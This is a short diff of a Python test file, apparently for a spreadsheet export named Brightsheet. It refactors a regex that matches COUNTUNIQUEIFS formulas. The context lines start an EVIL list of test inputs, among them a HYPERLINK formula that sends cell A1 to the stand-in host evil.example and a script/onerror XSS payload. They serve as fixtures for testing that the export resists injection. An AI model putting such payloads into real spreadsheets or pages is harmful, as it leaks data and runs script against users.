@@ -12,11 +12,9 @@ from emulator import Emulator
 from tests.made_up import comment, document, milestone, task, uuid
 from tests.world import World, wait_for
 
-COUNTED = re.compile(
-    r"=COUNTUNIQUEIFS\(Brightsheet_Site;Brightsheet_Milestone;\$A\d+"
-    r'(;Brightsheet_Status;[A-Z]+\$1(&": \*")?)?\)'
-    r'(\+COUNTUNIQUEIFS\(Brightsheet_Site;Brightsheet_Milestone;\$A\d+;Brightsheet_Status;[A-Z]+\$1&": \*"\))?'
-)
+_COUNT = r"COUNTUNIQUEIFS\(Brightsheet_Site;Brightsheet_Milestone;\$A\d+"
+_STATUS = r";Brightsheet_Status;[A-Z]+\$1"
+COUNTED = re.compile(rf'={_COUNT}(\)|{_STATUS}\)\+{_COUNT}{_STATUS}&":\*"\))')
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
     '<script>alert(1)</script><img src=x onerror="alert(1)">',
